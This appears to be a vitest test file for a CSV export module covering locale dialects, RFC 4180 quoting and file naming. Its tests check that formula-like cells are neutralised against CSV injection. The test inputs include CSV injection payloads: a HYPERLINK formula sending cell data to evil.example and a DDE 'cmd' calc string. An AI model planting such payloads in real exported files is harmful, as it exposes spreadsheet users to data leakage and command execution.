// CSV files (issue 14, item 7; docs/definitions.md: CSV files): one module (src/core/csv.ts) for the
// e-mail attachment and the campaign export. Per locale: ru_RU and uk_UA semicolons, decimal commas and
// the UTF-8 byte-order mark; en_* commas and dots without it. RFC 4180 quoting of separators, quotes and
// line breaks. Formula-like text neutralised (OWASP: https://owasp.org/www-community/attacks/CSV_Injection),
// and in the export a phone-shaped phone goes out exactly as typed.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { campaignCsvOf } from '../src/addon/campaignExport';
import { campaignDetractors } from '../src/addon/npsTable';
import { calendarFor, daysFromCivil } from '../src/core/calendar';
import type { Campaign } from '../src/core/campaigns/campaign';
import { type CustomerFacts, selectTargets } from '../src/core/campaigns/target';
import { readNpsTable } from '../src/core/npsResponses';
import { readOrdersTable } from '../src/core/ordersTable';
import { buildSummary } from '../src/core/summary';
import type { ReportContext } from '../src/reports/context';
import { campaignCsv, type ExportCustomer, type ExportHeader, exportFileName } from '../src/core/campaignCsv';
import { csvDialectOfLocale, csvField, csvText, importPhone, neutralise } from '../src/core/csv';
import { localeRules } from '../src/core/values';
import { attachmentDialect, csvField as mailCsvField } from '../src/mail/render';

const HEADER: ExportHeader = ['Name', 'E-mail', 'Phone', 'Segment', 'Manager'];
const dialectOf = (locale: string) => csvDialectOfLocale(localeRules(locale));
const bytes = (text: string): number[] => [...Buffer.from(text, 'utf8')];
const anna: ExportCustomer = { name: 'Anna', email: 'anna@example.com', phone: '+7 998 123-45-67', segment: 'New Active', manager: 'Olga' };

describe('the dialect of the spreadsheet locale', () => {
  it.each(['ru_RU', 'uk_UA', 'ru', 'uk'])('%s: semicolon, decimal comma, byte-order mark', (locale) => {
    expect(dialectOf(locale)).toEqual({ separator: ';', decimal: ',', bom: true });
  });
  it.each(['en_US', 'en_GB', 'en_AU', 'en'])('%s: comma, dot, no byte-order mark', (locale) => {
    expect(dialectOf(locale)).toEqual({ separator: ',', decimal: '.', bom: false });
  });

  it('the byte-order mark is the three bytes EF BB BF of UTF-8, first, only where the dialect has it', () => {
    const ru = campaignCsv([anna], HEADER, dialectOf('ru_RU'));
    expect(bytes(ru).slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes(ru)[3]).toBe('N'.charCodeAt(0));
    const en = campaignCsv([anna], HEADER, dialectOf('en_US'));
    expect(bytes(en)[0]).toBe('N'.charCodeAt(0));
    expect(en).not.toContain('\ufeff');
  });

  it('numbers take the dialect decimal sign and are never quoted', () => {
    expect(csvField(1234.5, dialectOf('ru_RU'))).toBe('1234,5');
    expect(csvField(-0.25, dialectOf('uk_UA'))).toBe('-0,25');
    expect(csvField(1234.5, dialectOf('en_US'))).toBe('1234.5');
    expect(csvText([[csvField(1.5, dialectOf('ru_RU')), csvField('x', dialectOf('ru_RU'))]], dialectOf('ru_RU'))).toBe('\ufeff1,5;x\r\n');
  });
});

describe('quoting (RFC 4180): a field with either separator, a quote or a line break is quoted, quotes doubled', () => {
  const ru = dialectOf('ru_RU');
  it.each([
    ['ООО "Ромашка"', '"ООО ""Ромашка"""'],
    ['Smith; John', '"Smith; John"'],
    ['Smith, John', '"Smith, John"'],
    ['line\nbreak', '"line\nbreak"'],
    ['cr\rhere', '"cr\rhere"'],
    ['plain', 'plain'],
  ])('%j -> %j', (text, field) => {
    expect(csvField(text, ru)).toBe(field);
    expect(csvField(text, dialectOf('en_US'))).toBe(field);
  });

  it('a whole file: header, CRLF after every line, the customers in the order given', () => {
    const file = campaignCsv(
      [anna, { name: 'Иван "Ваня", Петров', email: '', phone: '', segment: 'Regular Lapsed', manager: '' }],
      ['Имя', 'E-mail', 'Телефон', 'Сегмент', 'Менеджер'],
      dialectOf('ru_RU'),
    );
    expect(file).toBe(
      '\ufeffИмя;E-mail;Телефон;Сегмент;Менеджер\r\n' +
        'Anna;anna@example.com;+7 998 123-45-67;New Active;Olga\r\n' +
        '"Иван ""Ваня"", Петров";;;Regular Lapsed;\r\n',
    );
    expect(campaignCsv([], HEADER, dialectOf('en_US'))).toBe('Name,E-mail,Phone,Segment,Manager\r\n');
  });
});

describe('formula-like text is neutralised; an ordinary phone number carries no mark at all in the export', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

  it.each(hostile)('%j in a name, an e-mail, a segment or a manager gets the visible apostrophe', (text) => {
    const file = campaignCsv([{ name: text, email: text, phone: '', segment: text, manager: text }], HEADER, dialectOf('en_US'));
    const line = file.split('\r\n')[1];
    const quoted = /[",;\r\n]/.test(`'${text}`) ? `"'${text.replace(/"/g, '""')}"` : `'${text}`;
    expect(line).toBe([quoted, quoted, '', quoted, quoted].join(','));
  });

  it.each(hostile)('%j in the phone column gets the apostrophe too: it is no phone', (text) => {
    expect(importPhone(text, dialectOf('ru_RU')).replace(/^"/, '')).toMatch(/^'/);
  });

  it.each(['+7 998 123-45-67', '+7 (998) 123-45-67', '+380 44 123 4567', '89123456789', '8 912 345 67 89', '-5', '(495) 123.45.67'])(
    '%j is written exactly as typed in the export (no apostrophe, no invisible character)',
    (phone) => {
      const file = campaignCsv([{ ...anna, phone }], HEADER, dialectOf('ru_RU'));
      expect(file.split('\r\n')[1].split(';')[2]).toBe(phone);
      expect(file).not.toContain('\u200b');
      expect(file).not.toContain("'");
    },
  );

  it('the rule: a leading + or -, then only digits, spaces, brackets, hyphens and dots; a sign later is arithmetic', () => {
    expect(importPhone('+1+2')).toBe("'+1+2");
    expect(importPhone('-2+3')).toBe("'-2+3");
    expect(importPhone('+7 998 123-45-67')).toBe('+7 998 123-45-67');
    expect(importPhone('+7 998 123-45-67 ext. 5')).toBe("'+7 998 123-45-67 ext. 5");
    // No letters, so no function and no cell: at worst a spreadsheet computes --5 as 5; the tool gets the text.
    expect(importPhone('--5')).toBe('--5');
    expect(importPhone('')).toBe('');
    expect(importPhone('8 800 SOS')).toBe('8 800 SOS');
  });

  it('the e-mail attachment, read by people in Excel, keeps its invisible mark on a phone; the rules are the same module', () => {
    expect(neutralise('+7 998 123-45-67')).toBe('\u200b+7 998 123-45-67');
    expect(mailCsvField).toBe(csvField);
    expect(attachmentDialect('ru_RU')).toEqual({ separator: ';', decimal: ',', bom: true });
  });
});

describe('the file name', () => {
  it('the campaign name and the date, without characters file systems refuse', () => {
    expect(exportFileName('Win back: A/B', '2026-12-01')).toBe('Win back_ A_B 2026-12-01.csv');
    expect(exportFileName('  ', '2026-12-01')).toBe('campaign 2026-12-01.csv');
    expect(exportFileName('Вернуть "потерянных"', '2026-12-01')).toBe('Вернуть _потерянных_ 2026-12-01.csv');
  });
});

describe('a campaign worklist as the export writes it (test/data/nps, as of 2025-03-15)', () => {
  const UTC = calendarFor('Etc/UTC');
  const ASOF = daysFromCivil(2025, 3, 15);
  const rows = (file: string): string[][] =>
    readFileSync(path.join(__dirname, 'data', 'nps', file), 'utf8')
      .replace(/\r?\n$/, '')
      .split(/\r?\n/)
      .map((line) => line.split(','));
  const env = { calendar: UTC, rules: localeRules('ru_RU'), lang: 'ru' as const };
  const table = readOrdersTable({ sheetName: 'Orders', values: rows('orders.csv') }, null, env, ASOF);
  const answers = readNpsTable({ sheetName: 'NPS', values: rows('answers.csv') }, null, { ...env, fieldLabel: (f) => f });
  const summary = buildSummary(table.read.orders, { asOf: ASOF });
  const ctx = { lang: 'ru', summary, asOf: ASOF } as unknown as ReportContext;
  // The facts camp's facts table would give, by hand (segments as in test/npsResponses.test.ts).
  const fact = (key: string, segment: string, manager: string, returnPriority: number, yearlyValue: number): CustomerFacts => ({
    key,
    segment,
    abc: 'A',
    xyz: 'X',
    lost: false,
    pAlive: null,
    purchases: 1,
    daysSince: 10,
    manager,
    yearlyValue,
    returnPriority,
  });
  const facts = [
    fact('anna', 'prospective_active', 'Olga', 0, 220),
    fact('boris', 'new_active', 'Olga', 1, 80),
    fact('clara', 'new_sleeping', 'Ivan', 1, 200),
    fact('dmitry', 'regular_lapsed', 'Ivan', 2, 200),
    fact('eva', 'new_active', '', 0, 70),
  ];
  const target = { segments: [], abc: [], xyz: [], lost: null, pAlive: null, minPurchases: null, daysSince: null, managers: [] };
  const campaign: Campaign = {
    id: 'call_detractors',
    name: 'Перезвонить критикам',
    target: { ...target, npsDetractorsDays: 2 },
    action: 'Call back',
    channel: 'call',
    cadence: { kind: 'weekly', weekday: 1 },
    controlShare: 0,
    resultsWindowDays: 30,
    enabled: true,
  };
  const source = {
    sheetName: 'NPS',
    responses: answers.responses,
    unreadableRows: answers.report.unreadableRows,
    problems: [],
  };

  it('the detractors of the last 2 days, selected by the campaign target, with contacts from the orders and neutralised cells', () => {
    const detractors = campaignDetractors(source, ASOF, campaign.target.npsDetractorsDays);
    const listed = selectTargets(campaign, facts, detractors);
    expect(listed.map((f) => f.key)).toEqual(['eva', 'boris']);
    const file = campaignCsvOf(ctx, campaign, listed, localeRules('ru_RU'));
    expect(file.fileName).toBe('Перезвонить критикам 2025-03-15.csv');
    expect(file.customers).toBe(2);
    expect(file.text).toBe(
      '\ufeffИмя;E-mail;Телефон;Сегмент;Менеджер\r\n' +
        "Eva;'@SUM(A1);'+1+2;Новые Активные;\r\n" +
        'Boris;boris@example.com;89123456789;Новые Активные;Olga\r\n',
    );
  });

  it('a detractor campaign when the NPS tab cannot be read: the reason, not an empty list', () => {
    expect(() => campaignDetractors({ sheetName: 'NPS', error: 'The NPS tab "NPS" is empty.' }, ASOF, 2)).toThrow(
      'The NPS tab "NPS" is empty.',
    );
    expect(campaignDetractors(null, ASOF, 2)).toEqual(new Set());
    expect(campaignDetractors({ sheetName: 'NPS', error: 'x' }, ASOF, null)).toEqual(new Set());
  });

  it('formula-like names and phones of the orders in an English file', () => {
    const everyone = { ...campaign, name: 'All', target: { ...target, npsDetractorsDays: null } };
    const file = campaignCsvOf({ ...ctx, lang: 'en' } as ReportContext, everyone, selectTargets(everyone, facts), localeRules('en_US'));
    expect(file.text.split('\r\n')).toEqual([
      'Name,E-mail,Phone,Segment,Manager',
      'Anna,anna@example.com,+7 998 123-45-67,Prospective Active,Olga',
      "Eva,'@SUM(A1),'+1+2,New Active,",
      'Clara,clara@example.com,"\'=HYPERLINK(""http://example.com"")",New Sleeping,Ivan',
      'Boris,boris@example.com,89123456789,New Active,Olga',
      "Dmitry,dmitry@example.com,'-2+3,Regular Lapsed,Ivan",
      '',
    ]);
  });
});
